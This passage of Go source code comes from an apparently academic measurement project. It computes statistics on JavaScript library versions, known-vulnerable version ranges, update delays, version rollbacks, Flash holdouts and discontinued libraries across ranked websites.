			if acc != vulndb.Understated && acc != vulndb.Mixed {
				continue
			}
		}
		include[a.ID] = true
	}
	res := DelayResult{PerAdvisory: map[string]float64{}}
	sums := map[string]int{}
	counts := map[string]int{}
	totalSum := 0
	for key, st := range u.states {
		if key.tvv != useTVV || !include[key.advID] {
			continue
		}
		if !st.updated {
			res.Censored++
			continue
		}
		res.Updated++
		totalSum += st.delayDays
		sums[key.advID] += st.delayDays
		counts[key.advID]++
	}
	if res.Updated > 0 {
		res.MeanDays = float64(totalSum) / float64(res.Updated)
	}
	for id, sum := range sums {
		res.PerAdvisory[id] = float64(sum) / float64(counts[id])
	}
	return res
}
