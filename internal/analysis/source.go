package analysis

import (
	"clientres/internal/alexa"
	"clientres/internal/cdn"
	"clientres/internal/fingerprint"
	"clientres/internal/store"
	"clientres/internal/webgen"
)

// ObservationFromCrawl reduces one fetched page to an Observation using the
// fingerprint engine's detection — the production path of the pipeline.
func ObservationFromCrawl(dom alexa.Domain, week, status int, body string, det fingerprint.Detection) store.Observation {
	obs := store.Observation{
		Domain: dom.Name, Rank: dom.Rank, Country: dom.Country,
		Week: week, Status: status, Bytes: len(body),
	}
	if !obs.OK() {
		return obs
	}
	obs.HasJS = det.Resources.JavaScript
	if !det.WordPress.IsZero() {
		obs.WordPress = det.WordPress.String()
	}
	for _, hit := range det.Libraries {
		rec := store.LibRecord{
			Slug: hit.Slug, Known: hit.Known,
			External: hit.External, Host: hit.Host,
			SRI: hit.SRI, Crossorigin: hit.Crossorigin,
			Sig: hit.ViaSignature,
		}
		if !hit.Version.IsZero() {
			rec.Version = hit.Version.String()
		}
		obs.Libs = append(obs.Libs, rec)
	}
	if det.Flash != nil {
		obs.Flash = &store.FlashRecord{
			ScriptAccessParam: det.Flash.ScriptAccessParam,
			Always:            det.Flash.Always,
			ViaSWFObject:      det.Flash.ViaSWFObject,
			Visible:           det.Flash.Visible,
		}
	}
	obs.Resources = store.ResourceFlags{
		JavaScript:   det.Resources.JavaScript,
		CSS:          det.Resources.CSS,
		Favicon:      det.Resources.Favicon,
		ImportedHTML: det.Resources.ImportedHTML,
		XML:          det.Resources.XML,
		SVG:          det.Resources.SVG,
		Flash:        det.Resources.Flash,
		AXD:          det.Resources.AXD,
	}
	return obs
}

// ObservationFromTruth reduces generator ground truth to an Observation —
// the scale path that skips rendering and re-detection. Its output is
// validated against the crawl path by the pipeline-equivalence tests.
func ObservationFromTruth(dom alexa.Domain, t webgen.PageTruth) store.Observation {
	obs := store.Observation{
		Domain: dom.Name, Rank: dom.Rank, Country: dom.Country,
		Week: t.Week, Status: t.Status,
	}
	switch {
	case t.Status != 200:
		return obs
	case t.EmptyPage:
		obs.Bytes = 64 // under the 400-byte threshold, like the real page
		return obs
	default:
		obs.Bytes = 4096
	}
	obs.HasJS = t.HasJS
	if !t.WordPress.IsZero() {
		obs.WordPress = t.WordPress.String()
	}
	for _, lib := range t.Libs {
		rec := store.LibRecord{
			Slug: lib.Slug, Known: true,
			External: lib.External, Host: lib.Host,
			SRI: lib.SRI, Crossorigin: lib.Crossorigin,
			// Bundled libraries reach the crawl path only through the
			// content-signature scanner, so the truth path marks them the
			// same way.
			Sig: t.Bundled,
		}
		// Version-control-hosted URLs carry no version; the truth path is
		// deliberately version-blind there too, so direct and crawl
		// collection are observationally equivalent.
		if !lib.Version.IsZero() && !(lib.External && cdn.IsVersionControl(lib.Host)) {
			rec.Version = lib.Version.String()
		}
		obs.Libs = append(obs.Libs, rec)
	}
	for _, tl := range t.Tail {
		obs.Libs = append(obs.Libs, store.LibRecord{Slug: tl.Name, Version: tl.Version})
	}
	if t.Flash != nil {
		obs.Flash = &store.FlashRecord{
			ScriptAccessParam: t.Flash.ScriptAccessParam,
			Always:            t.Flash.Always,
			ViaSWFObject:      t.Flash.ViaSWFObject,
			Visible:           t.Flash.Visible,
		}
	}
	obs.Resources = store.ResourceFlags{
		JavaScript:   t.HasJS,
		CSS:          t.UsesCSS,
		Favicon:      t.UsesFavicon,
		ImportedHTML: t.UsesImportedHTML,
		XML:          t.UsesXML,
		SVG:          t.UsesSVG,
		Flash:        t.Flash != nil,
		AXD:          t.UsesAXD,
	}
	return obs
}

// TruthSource streams ground-truth observations for an ecosystem, weeks
// ascending (the order the stateful collectors rely on).
type TruthSource struct {
	Eco *webgen.Ecosystem
}

// ForEach feeds every (site, week) observation to fn.
func (s TruthSource) ForEach(fn func(store.Observation)) {
	for w := 0; w < s.Eco.Cfg.Weeks; w++ {
		for i := range s.Eco.Sites {
			fn(ObservationFromTruth(s.Eco.Sites[i].Domain, s.Eco.Truth(i, w)))
		}
	}
}

// Run streams the source through a runner and returns it, for chaining.
func (s TruthSource) Run(r *Runner) *Runner {
	s.ForEach(r.Observe)
	return r
}
