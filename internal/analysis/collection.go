package analysis

import "clientres/internal/store"

// Collection measures the dataset itself: how many domains answered with a
// usable landing page each week (Figure 2a) and which resource types those
// pages used (Figure 2b).
type Collection struct {
	weeks     int
	attempted *weekSeries
	collected *weekSeries

	js, css, favicon, imported, xml, svg, flash, axd *weekSeries
}

// NewCollection builds the collector for a study of the given week count.
func NewCollection(weeks int) *Collection {
	return &Collection{
		weeks:     weeks,
		attempted: newWeekSeries(), collected: newWeekSeries(),
		js: newWeekSeries(), css: newWeekSeries(), favicon: newWeekSeries(),
		imported: newWeekSeries(), xml: newWeekSeries(), svg: newWeekSeries(),
		flash: newWeekSeries(), axd: newWeekSeries(),
	}
}

// Name implements Collector.
func (c *Collection) Name() string { return "collection" }

// Observe implements Collector.
func (c *Collection) Observe(obs store.Observation) {
	c.attempted.add(obs.Week, 1)
	if !obs.OK() {
		return
	}
	c.collected.add(obs.Week, 1)
	r := obs.Resources
	mark := func(s *weekSeries, on bool) {
		if on {
			s.add(obs.Week, 1)
		}
	}
	mark(c.js, r.JavaScript)
	mark(c.css, r.CSS)
	mark(c.favicon, r.Favicon)
	mark(c.imported, r.ImportedHTML)
	mark(c.xml, r.XML)
	mark(c.svg, r.SVG)
	mark(c.flash, r.Flash)
	mark(c.axd, r.AXD)
}

// Merge folds another Collection's aggregates into c. The two collectors
// must have observed disjoint shards of the same study (see Collector).
func (c *Collection) Merge(o *Collection) {
	c.attempted.merge(o.attempted)
	c.collected.merge(o.collected)
	c.js.merge(o.js)
	c.css.merge(o.css)
	c.favicon.merge(o.favicon)
	c.imported.merge(o.imported)
	c.xml.merge(o.xml)
	c.svg.merge(o.svg)
	c.flash.merge(o.flash)
	c.axd.merge(o.axd)
}

// CollectedSeries returns the weekly count of usable pages (Figure 2a).
func (c *Collection) CollectedSeries() []int { return c.collected.Series(c.weeks) }

// AttemptedSeries returns the weekly count of attempted fetches.
func (c *Collection) AttemptedSeries() []int { return c.attempted.Series(c.weeks) }

// MeanCollected returns the average usable-page count per week (the paper's
// 782,300 of 1M).
func (c *Collection) MeanCollected() float64 { return meanInt(c.CollectedSeries()) }

// ResourceShare is one Figure 2b series: the weekly fraction of collected
// sites using a resource type.
type ResourceShare struct {
	Resource string
	Weekly   []float64
	Mean     float64
}

// ResourceShares returns the Figure 2b series in the paper's legend order.
func (c *Collection) ResourceShares() []ResourceShare {
	den := c.CollectedSeries()
	mk := func(name string, s *weekSeries) ResourceShare {
		num := s.Series(c.weeks)
		weekly := make([]float64, c.weeks)
		for i := range weekly {
			if den[i] > 0 {
				weekly[i] = float64(num[i]) / float64(den[i])
			}
		}
		return ResourceShare{Resource: name, Weekly: weekly, Mean: meanRatio(num, den)}
	}
	return []ResourceShare{
		mk("JavaScript", c.js),
		mk("CSS", c.css),
		mk("Favicon", c.favicon),
		mk("imported-HTML", c.imported),
		mk("XML", c.xml),
		mk("SVG", c.svg),
		mk("Flash", c.flash),
		mk("AXD", c.axd),
	}
}
