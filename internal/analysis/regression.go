package analysis

import (
	"sort"

	"clientres/internal/store"
	"clientres/internal/vulndb"
)

// Regressions measures the paper's Section 9 future-work question: websites
// that updated to a patched version and subsequently rolled back —
// re-opening a window of vulnerability, "potentially due to compatibility
// concerns".
//
// Like UpdateDelay this collector requires week-ascending observation order
// per domain.
type Regressions struct {
	weeks int
	// last holds each (domain, lib)'s most recent version string.
	last map[regKey]string
	// downgrades counts observed version downgrades per library.
	downgrades map[string]int
	// reopened counts downgrades that moved the site back *into* an
	// advisory's vulnerable range it had previously left.
	reopened map[string]int // advisory ID → count
	// domains with ≥1 downgrade.
	regressedDomains map[string]bool
	// exitState tracks, per (domain, advisory), whether the site has been
	// seen outside the vulnerable range after having been inside it.
	exitState map[regAdvKey]bool
	byLib     map[string][]vulndb.Advisory
}

type regKey struct{ domain, lib string }
type regAdvKey struct{ domain, advID string }

// NewRegressions builds the collector.
func NewRegressions(weeks int) *Regressions {
	r := &Regressions{
		weeks:            weeks,
		last:             map[regKey]string{},
		downgrades:       map[string]int{},
		reopened:         map[string]int{},
		regressedDomains: map[string]bool{},
		exitState:        map[regAdvKey]bool{},
		byLib:            map[string][]vulndb.Advisory{},
	}
	for _, a := range vulndb.Advisories() {
		r.byLib[a.Lib] = append(r.byLib[a.Lib], a)
	}
	return r
}

// Name implements Collector.
func (r *Regressions) Name() string { return "regressions" }

// Observe implements Collector.
func (r *Regressions) Observe(obs store.Observation) {
	if !obs.OK() {
		return
	}
	date := WeekDate(obs.Week)
	for _, lib := range obs.Libs {
		ver, ok := parseVersion(lib.Version)
		if !ok {
			continue
		}
		key := regKey{obs.Domain, lib.Slug}
		if prevStr, seen := r.last[key]; seen {
			if prev, ok := parseVersion(prevStr); ok && ver.Less(prev) {
				r.downgrades[lib.Slug]++
				r.regressedDomains[obs.Domain] = true
			}
		}
		r.last[key] = lib.Version

		// Vulnerability window re-opening: entering a range after having
		// been seen outside it (post-disclosure).
		for _, adv := range r.byLib[lib.Slug] {
			if adv.Disclosed.After(date) {
				continue
			}
			akey := regAdvKey{obs.Domain, adv.ID}
			in := adv.EffectiveTrueRange().Contains(ver)
			wasOut := r.exitState[akey]
			switch {
			case !in:
				r.exitState[akey] = true
			case in && wasOut:
				r.reopened[adv.ID]++
				r.exitState[akey] = false
			}
		}
	}
}

// Merge folds another Regressions' aggregates into r. The two collectors
// must have observed disjoint shards of the same study (see Collector):
// the last-version and exit-state machines are per-domain and only merge
// exactly under domain-disjoint sharding (overlapping keys keep the
// receiver's state).
func (r *Regressions) Merge(o *Regressions) {
	for key, v := range o.last {
		if _, ok := r.last[key]; !ok {
			r.last[key] = v
		}
	}
	mergeCounts(r.downgrades, o.downgrades)
	mergeCounts(r.reopened, o.reopened)
	mergeSets(r.regressedDomains, o.regressedDomains)
	for key, v := range o.exitState {
		if _, ok := r.exitState[key]; !ok {
			r.exitState[key] = v
		}
	}
}

// RegressedDomains returns the number of domains with ≥1 observed version
// downgrade.
func (r *Regressions) RegressedDomains() int { return len(r.regressedDomains) }

// LibCount is one (library, count) aggregate.
type LibCount struct {
	Slug  string
	Count int
}

// DowngradesByLibrary returns downgrade event counts per library, largest
// first.
func (r *Regressions) DowngradesByLibrary() []LibCount {
	var out []LibCount
	for slug, n := range r.downgrades {
		out = append(out, LibCount{Slug: slug, Count: n})
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].Count != out[j].Count {
			return out[i].Count > out[j].Count
		}
		return out[i].Slug < out[j].Slug
	})
	return out
}

// ReopenedWindows returns, per advisory, how many times a site re-entered
// the vulnerable range after having left it.
func (r *Regressions) ReopenedWindows() map[string]int {
	out := make(map[string]int, len(r.reopened))
	for id, n := range r.reopened {
		out[id] = n
	}
	return out
}

// TotalReopened sums re-opened windows across advisories.
func (r *Regressions) TotalReopened() int {
	total := 0
	for _, n := range r.reopened {
		total += n
	}
	return total
}
