package analysis

import (
	"sort"
	"time"

	"clientres/internal/store"
)

// Flash measures Adobe Flash usage (Section 8): the decline across rank
// bands (Figure 8), the AllowScriptAccess parameter and its insecure
// "always" option (Figure 11), and the country mix of sites that kept
// Flash past its end of life.
type Flash struct {
	weeks int
	// totalDomains scales the paper's rank bands (top 1K / 10K of 1M) to
	// the modeled population.
	totalDomains int

	all, top10k, top1k *weekSeries
	scriptAccess       *weekSeries
	always             *weekSeries

	// Post-EOL holdouts by country (the Section 8 case study).
	postEOLCountry map[string]map[string]bool // country → domains
	// Top-band post-EOL holdouts with visibility (the 13-website case
	// study: 6 visible, 7 invisible leftovers).
	holdouts map[string]*holdout
}

type holdout struct {
	rank    int
	country string
	visible bool
}

// FlashEOLWeek is the snapshot week containing the Flash end of life
// (Jan 1, 2021).
var FlashEOLWeek = weekOfDate(time.Date(2021, time.January, 1, 0, 0, 0, 0, time.UTC))

// NewFlash builds the collector. totalDomains is the population size the
// ranks were drawn from.
func NewFlash(weeks, totalDomains int) *Flash {
	return &Flash{
		weeks: weeks, totalDomains: totalDomains,
		all: newWeekSeries(), top10k: newWeekSeries(), top1k: newWeekSeries(),
		scriptAccess:   newWeekSeries(),
		always:         newWeekSeries(),
		postEOLCountry: map[string]map[string]bool{},
		holdouts:       map[string]*holdout{},
	}
}

// Name implements Collector.
func (f *Flash) Name() string { return "flash" }

// Observe implements Collector.
func (f *Flash) Observe(obs store.Observation) {
	if !obs.OK() || obs.Flash == nil {
		return
	}
	f.all.add(obs.Week, 1)
	// Scale the paper's absolute bands to the modeled population: the top
	// 1K of 1M is the top 0.1 %, the top 10K the top 1 %.
	if obs.Rank <= maxInt(1, f.totalDomains/1000) {
		f.top1k.add(obs.Week, 1)
	}
	if obs.Rank <= maxInt(1, f.totalDomains/100) {
		f.top10k.add(obs.Week, 1)
	}
	if obs.Flash.ScriptAccessParam {
		f.scriptAccess.add(obs.Week, 1)
		if obs.Flash.Always {
			f.always.add(obs.Week, 1)
		}
	}
	if obs.Week >= FlashEOLWeek {
		set := f.postEOLCountry[obs.Country]
		if set == nil {
			set = map[string]bool{}
			f.postEOLCountry[obs.Country] = set
		}
		set[obs.Domain] = true
		// The paper's case study looks at the top 10K of 1M; at scaled-down
		// populations the equivalent 1 % band holds less than one expected
		// Flash site, so the case-study band is the top 10 % (noted in
		// EXPERIMENTS.md).
		if obs.Rank <= maxInt(1, f.totalDomains/10) {
			f.holdouts[obs.Domain] = &holdout{
				rank: obs.Rank, country: obs.Country,
				visible: obs.Flash.Visible,
			}
		}
	}
}

// Merge folds another Flash's aggregates into f. The two collectors must
// have observed disjoint shards of the same study (see Collector): the
// per-domain holdout records carry last-observation state that only merges
// exactly when each domain's history lives in one shard.
func (f *Flash) Merge(o *Flash) {
	f.all.merge(o.all)
	f.top10k.merge(o.top10k)
	f.top1k.merge(o.top1k)
	f.scriptAccess.merge(o.scriptAccess)
	f.always.merge(o.always)
	for country, set := range o.postEOLCountry {
		dst := f.postEOLCountry[country]
		if dst == nil {
			dst = map[string]bool{}
			f.postEOLCountry[country] = dst
		}
		for d := range set {
			dst[d] = true
		}
	}
	for dom, h := range o.holdouts {
		// Rank and country are per-domain constants; on a (contract-
		// violating) overlap the receiver's visibility snapshot is kept.
		if _, ok := f.holdouts[dom]; !ok {
			cp := *h
			f.holdouts[dom] = &cp
		}
	}
}

// Holdout is one top-band website still embedding Flash after the end of
// life — the Section 8 case-study population.
type Holdout struct {
	Domain  string
	Rank    int
	Country string
	// Visible reports whether the Flash content actually renders; the
	// invisible cases are off-page leftovers end-users never see.
	Visible bool
}

// TopBandHoldouts returns the post-EOL Flash sites in the top-1 % rank band
// (the paper's top-10K), rank ascending.
func (f *Flash) TopBandHoldouts() []Holdout {
	var out []Holdout
	for domain, h := range f.holdouts {
		out = append(out, Holdout{Domain: domain, Rank: h.rank,
			Country: h.country, Visible: h.visible})
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Rank < out[j].Rank })
	return out
}

// HoldoutVisibility splits the top-band holdouts into visible and invisible
// counts (paper: 6 visible vs 7 invisible of 13).
func (f *Flash) HoldoutVisibility() (visible, invisible int) {
	for _, h := range f.holdouts {
		if h.visible {
			visible++
		} else {
			invisible++
		}
	}
	return visible, invisible
}

// UsageSeries returns the Figure 8 series: all domains, the top-1 % band
// (the paper's top 10K), and the top-0.1 % band (top 1K).
func (f *Flash) UsageSeries() (all, top10k, top1k []int) {
	return f.all.Series(f.weeks), f.top10k.Series(f.weeks), f.top1k.Series(f.weeks)
}

// MeanPostEOL returns the average weekly count of Flash sites after the end
// of life (the paper's 3,553 of 1M).
func (f *Flash) MeanPostEOL() float64 {
	series := f.all.Series(f.weeks)
	if FlashEOLWeek >= f.weeks {
		return 0
	}
	return meanInt(series[FlashEOLWeek:])
}

// ScriptAccessSeries returns the Figure 11 series: Flash sites, sites using
// the AllowScriptAccess parameter, and sites with the insecure "always"
// option.
func (f *Flash) ScriptAccessSeries() (flash, param, always []int) {
	return f.all.Series(f.weeks), f.scriptAccess.Series(f.weeks), f.always.Series(f.weeks)
}

// MeanInsecureShare returns the average share of Flash sites whose
// AllowScriptAccess is "always" (the paper's 24.7 % rising ~21 %→30 %).
func (f *Flash) MeanInsecureShare() float64 {
	return meanRatio(f.always.Series(f.weeks), f.all.Series(f.weeks))
}

// InsecureShareAt returns the insecure share at one week.
func (f *Flash) InsecureShareAt(week int) float64 {
	a := f.always.Series(f.weeks)
	t := f.all.Series(f.weeks)
	if week < 0 || week >= f.weeks || t[week] == 0 {
		return 0
	}
	return float64(a[week]) / float64(t[week])
}

// CountryCount is one row of the post-EOL holdout breakdown.
type CountryCount struct {
	Country string
	Domains int
}

// PostEOLCountries returns the countries of post-EOL Flash sites, largest
// first (the paper's finding: Chinese-operated sites dominate).
func (f *Flash) PostEOLCountries() []CountryCount {
	var out []CountryCount
	for country, set := range f.postEOLCountry {
		out = append(out, CountryCount{Country: country, Domains: len(set)})
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].Domains != out[j].Domains {
			return out[i].Domains > out[j].Domains
		}
		return out[i].Country < out[j].Country
	})
	return out
}

func maxInt(a, b int) int {
	if a > b {
		return a
	}
	return b
}
