package analysis

import (
	"sort"
	"time"

	"clientres/internal/store"
	"clientres/internal/vulndb"
)

// VulnPrevalence measures vulnerable websites (Section 6.2) under both the
// CVE-disclosed ranges and the True Vulnerable Version ranges (Section 6.4's
// refinement), the per-advisory affected-site series (Figures 5 and 14),
// and the per-site vulnerability-count distribution (Figure 12).
//
// A site counts as vulnerable to an advisory only from the advisory's
// public disclosure date onward — before that nobody, site owner included,
// could have known.
type VulnPrevalence struct {
	weeks     int
	collected *weekSeries
	vulnCVE   *weekSeries // sites with ≥1 vulnerability, CVE ranges
	vulnTVV   *weekSeries // same under TVV ranges
	// vulnUncond restricts to advisories the paper's Section 9 does NOT
	// flag as condition-dependent — a "readily exploitable" lower bound
	// (an extension beyond the paper's headline metric).
	vulnUncond *weekSeries

	perAdvisoryCVE map[string]*weekSeries
	perAdvisoryTVV map[string]*weekSeries

	histCVE map[int]int // per-(site,week) vulnerability count histogram
	histTVV map[int]int

	// undisclosed tracks domains observed vulnerable under TVV ranges but
	// clean under CVE ranges (domain → best rank) — the population behind
	// the paper's microsoft.com / docusign.com examples.
	undisclosed map[string]int

	byLib map[string][]vulndb.Advisory
}

// NewVulnPrevalence builds the collector.
func NewVulnPrevalence(weeks int) *VulnPrevalence {
	v := &VulnPrevalence{
		weeks:          weeks,
		collected:      newWeekSeries(),
		vulnCVE:        newWeekSeries(),
		vulnTVV:        newWeekSeries(),
		vulnUncond:     newWeekSeries(),
		perAdvisoryCVE: map[string]*weekSeries{},
		perAdvisoryTVV: map[string]*weekSeries{},
		histCVE:        map[int]int{},
		histTVV:        map[int]int{},
		undisclosed:    map[string]int{},
		byLib:          map[string][]vulndb.Advisory{},
	}
	for _, a := range vulndb.Advisories() {
		v.byLib[a.Lib] = append(v.byLib[a.Lib], a)
		v.perAdvisoryCVE[a.ID] = newWeekSeries()
		v.perAdvisoryTVV[a.ID] = newWeekSeries()
	}
	return v
}

// Name implements Collector.
func (v *VulnPrevalence) Name() string { return "vuln-prevalence" }

// Observe implements Collector.
func (v *VulnPrevalence) Observe(obs store.Observation) {
	if !obs.OK() {
		return
	}
	v.collected.add(obs.Week, 1)
	date := WeekDate(obs.Week)
	nCVE, nTVV, nUncond := 0, 0, 0
	for _, lib := range obs.Libs {
		ver, ok := parseVersion(lib.Version)
		if !ok {
			continue
		}
		for _, adv := range v.byLib[lib.Slug] {
			if adv.Disclosed.After(date) {
				continue
			}
			if adv.CVERange.Contains(ver) {
				nCVE++
				v.perAdvisoryCVE[adv.ID].add(obs.Week, 1)
			}
			if adv.EffectiveTrueRange().Contains(ver) {
				nTVV++
				v.perAdvisoryTVV[adv.ID].add(obs.Week, 1)
				if !adv.Conditional {
					nUncond++
				}
			}
		}
	}
	if nCVE > 0 {
		v.vulnCVE.add(obs.Week, 1)
	}
	if nTVV > 0 {
		v.vulnTVV.add(obs.Week, 1)
	}
	if nUncond > 0 {
		v.vulnUncond.add(obs.Week, 1)
	}
	if nTVV > 0 && nCVE == 0 {
		if r, ok := v.undisclosed[obs.Domain]; !ok || obs.Rank < r {
			v.undisclosed[obs.Domain] = obs.Rank
		}
	}
	v.histCVE[nCVE]++
	v.histTVV[nTVV]++
}

// Merge folds another VulnPrevalence's aggregates into v. The two
// collectors must have observed disjoint shards of the same study (see
// Collector).
func (v *VulnPrevalence) Merge(o *VulnPrevalence) {
	v.collected.merge(o.collected)
	v.vulnCVE.merge(o.vulnCVE)
	v.vulnTVV.merge(o.vulnTVV)
	v.vulnUncond.merge(o.vulnUncond)
	mergeSeriesMap(v.perAdvisoryCVE, o.perAdvisoryCVE)
	mergeSeriesMap(v.perAdvisoryTVV, o.perAdvisoryTVV)
	mergeHist(v.histCVE, o.histCVE)
	mergeHist(v.histTVV, o.histTVV)
	mergeMinRank(v.undisclosed, o.undisclosed)
}

// MeanVulnerableShare returns the average weekly share of collected sites
// carrying ≥1 known vulnerability — the paper's 41.2 % (CVE ranges) and
// 43.2 % (TVV ranges).
func (v *VulnPrevalence) MeanVulnerableShare(useTVV bool) float64 {
	s := v.vulnCVE
	if useTVV {
		s = v.vulnTVV
	}
	return meanRatio(s.Series(v.weeks), v.collected.Series(v.weeks))
}

// VulnerableSeries returns the weekly vulnerable-site share series.
func (v *VulnPrevalence) VulnerableSeries(useTVV bool) []float64 {
	s := v.vulnCVE
	if useTVV {
		s = v.vulnTVV
	}
	num := s.Series(v.weeks)
	den := v.collected.Series(v.weeks)
	out := make([]float64, v.weeks)
	for i := range out {
		if den[i] > 0 {
			out[i] = float64(num[i]) / float64(den[i])
		}
	}
	return out
}

// AdvisorySeries returns the weekly count of sites affected by one advisory
// under both rulesets (Figures 5 and 14).
func (v *VulnPrevalence) AdvisorySeries(id string) (cve, tvv []int) {
	c, ok := v.perAdvisoryCVE[id]
	if !ok {
		return make([]int, v.weeks), make([]int, v.weeks)
	}
	return c.Series(v.weeks), v.perAdvisoryTVV[id].Series(v.weeks)
}

// MeanAffected returns the average weekly number of sites affected by one
// advisory (the Table 2 "# of Website" columns), under CVE or TVV ranges.
func (v *VulnPrevalence) MeanAffected(id string, useTVV bool) float64 {
	m := v.perAdvisoryCVE
	if useTVV {
		m = v.perAdvisoryTVV
	}
	s, ok := m[id]
	if !ok {
		return 0
	}
	// Average over the weeks after the advisory's disclosure.
	var adv vulndb.Advisory
	for _, a := range vulndb.Advisories() {
		if a.ID == id {
			adv = a
		}
	}
	from := weekOfDate(adv.Disclosed)
	if from < 0 {
		from = 0
	}
	if from >= v.weeks {
		return 0
	}
	series := s.Series(v.weeks)
	sum, n := 0, 0
	for w := from; w < v.weeks; w++ {
		sum += series[w]
		n++
	}
	if n == 0 {
		return 0
	}
	return float64(sum) / float64(n)
}

func weekOfDate(t time.Time) int {
	if t.IsZero() {
		return 0
	}
	return int(t.Sub(WeekDate(0)) / (7 * 24 * time.Hour))
}

// CDFPoint is one point of the Figure 12 CDF.
type CDFPoint struct {
	Count int     // number of vulnerabilities
	CDF   float64 // fraction of (site, week) pages with ≤ Count
}

// VulnCDF returns the per-page vulnerability-count CDF (Figure 12).
func (v *VulnPrevalence) VulnCDF(useTVV bool) []CDFPoint {
	hist := v.histCVE
	if useTVV {
		hist = v.histTVV
	}
	var counts []int
	total := 0
	for c, n := range hist {
		counts = append(counts, c)
		total += n
	}
	sort.Ints(counts)
	var out []CDFPoint
	cum := 0
	for _, c := range counts {
		cum += hist[c]
		out = append(out, CDFPoint{Count: c, CDF: float64(cum) / float64(total)})
	}
	return out
}

// MeanVulnsPerSite returns the mean vulnerability count per page — the
// paper's 0.79 (CVE) and 0.97 (TVV).
func (v *VulnPrevalence) MeanVulnsPerSite(useTVV bool) float64 {
	hist := v.histCVE
	if useTVV {
		hist = v.histTVV
	}
	sum, total := 0, 0
	for c, n := range hist {
		sum += c * n
		total += n
	}
	if total == 0 {
		return 0
	}
	return float64(sum) / float64(total)
}

// YearShare is one calendar year's mean vulnerable-site shares.
type YearShare struct {
	Year     int
	CVE, TVV float64
}

// YearlyShares breaks the prevalence down per calendar year — the paper's
// observation that the CVE/TVV gap grows from 0.1 points (2018) to
// 2.9 points (2022).
func (v *VulnPrevalence) YearlyShares() []YearShare {
	cve := v.vulnCVE.Series(v.weeks)
	tvv := v.vulnTVV.Series(v.weeks)
	den := v.collected.Series(v.weeks)
	type acc struct {
		c, t float64
		n    int
	}
	byYear := map[int]*acc{}
	for w := 0; w < v.weeks; w++ {
		if den[w] == 0 {
			continue
		}
		y := WeekDate(w).Year()
		a := byYear[y]
		if a == nil {
			a = &acc{}
			byYear[y] = a
		}
		a.c += float64(cve[w]) / float64(den[w])
		a.t += float64(tvv[w]) / float64(den[w])
		a.n++
	}
	var years []int
	for y := range byYear {
		years = append(years, y)
	}
	sort.Ints(years)
	out := make([]YearShare, len(years))
	for i, y := range years {
		a := byYear[y]
		out[i] = YearShare{Year: y, CVE: a.c / float64(a.n), TVV: a.t / float64(a.n)}
	}
	return out
}

// UndisclosedSite is a site vulnerable only under the corrected (TVV)
// ranges — invisible to anyone who trusts the CVE reports.
type UndisclosedSite struct {
	Domain string
	Rank   int
}

// TopUndisclosedSites returns the best-ranked such sites (the paper's
// high-profile examples: microsoft.com on jQuery 3.5.1, docusign.com on
// 2.2.3), rank ascending, at most n.
func (v *VulnPrevalence) TopUndisclosedSites(n int) []UndisclosedSite {
	out := make([]UndisclosedSite, 0, len(v.undisclosed))
	for domain, rank := range v.undisclosed {
		out = append(out, UndisclosedSite{Domain: domain, Rank: rank})
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Rank < out[j].Rank })
	if n < len(out) {
		out = out[:n]
	}
	return out
}

// MeanReadilyExploitableShare returns the vulnerable-site share counting
// only advisories without Section 9's exploitation preconditions — the
// exploitability-aware refinement the paper lists as future work.
func (v *VulnPrevalence) MeanReadilyExploitableShare() float64 {
	return meanRatio(v.vulnUncond.Series(v.weeks), v.collected.Series(v.weeks))
}

// MeanUndisclosedVulnerable quantifies the CVE-accuracy impact: the average
// weekly count of sites vulnerable under TVV ranges beyond those counted
// under the CVE ranges (the paper's "undisclosed in the wild" population).
func (v *VulnPrevalence) MeanUndisclosedVulnerable() float64 {
	tvv := v.vulnTVV.Series(v.weeks)
	cve := v.vulnCVE.Series(v.weeks)
	diff := make([]int, v.weeks)
	for i := range diff {
		d := tvv[i] - cve[i]
		if d > 0 {
			diff[i] = d
		}
	}
	return meanInt(diff)
}
