package analysis

import (
	"clientres/internal/store"
	"clientres/internal/vulndb"
)

// Discontinued measures the use of discontinued library projects
// (Section 6.3) and the jQuery-Cookie → JS-Cookie migration.
type Discontinued struct {
	weeks     int
	collected *weekSeries
	// usage per discontinued slug per week.
	usage map[string]*weekSeries
	// Migration tracking: domains ever seen with jquery-cookie, and of
	// those, domains later seen with js-cookie but no jquery-cookie.
	everJQCookie map[string]bool
	migrated     map[string]bool
}

// NewDiscontinued builds the collector. Like UpdateDelay it relies on
// week-ascending observation order per domain for the migration direction.
func NewDiscontinued(weeks int) *Discontinued {
	d := &Discontinued{
		weeks:        weeks,
		collected:    newWeekSeries(),
		usage:        map[string]*weekSeries{},
		everJQCookie: map[string]bool{},
		migrated:     map[string]bool{},
	}
	for _, lib := range vulndb.Libraries() {
		if lib.Discontinued {
			d.usage[lib.Slug] = newWeekSeries()
		}
	}
	return d
}

// Name implements Collector.
func (d *Discontinued) Name() string { return "discontinued" }

// Observe implements Collector.
func (d *Discontinued) Observe(obs store.Observation) {
	if !obs.OK() {
		return
	}
	d.collected.add(obs.Week, 1)
	hasJQC, hasJSC := false, false
	for _, lib := range obs.Libs {
		if s, ok := d.usage[lib.Slug]; ok {
			s.add(obs.Week, 1)
		}
		switch lib.Slug {
		case "jquery-cookie":
			hasJQC = true
		case "js-cookie":
			hasJSC = true
		}
	}
	if hasJQC {
		d.everJQCookie[obs.Domain] = true
	}
	if hasJSC && !hasJQC && d.everJQCookie[obs.Domain] {
		d.migrated[obs.Domain] = true
	}
}

// Merge folds another Discontinued's aggregates into d. The two collectors
// must have observed disjoint shards of the same study (see Collector):
// the jQuery-Cookie → JS-Cookie migration tracker is a per-domain state
// machine that only merges exactly under domain-disjoint sharding.
func (d *Discontinued) Merge(o *Discontinued) {
	d.collected.merge(o.collected)
	mergeSeriesMap(d.usage, o.usage)
	mergeSets(d.everJQCookie, o.everJQCookie)
	mergeSets(d.migrated, o.migrated)
}

// MeanUsage returns the average weekly usage share of a discontinued
// library.
func (d *Discontinued) MeanUsage(slug string) float64 {
	s, ok := d.usage[slug]
	if !ok {
		return 0
	}
	return meanRatio(s.Series(d.weeks), d.collected.Series(d.weeks))
}

// UsageSeries returns the weekly site counts of a discontinued library.
func (d *Discontinued) UsageSeries(slug string) []int {
	s, ok := d.usage[slug]
	if !ok {
		return make([]int, d.weeks)
	}
	return s.Series(d.weeks)
}

// MigrationStats returns the jQuery-Cookie population and how many of those
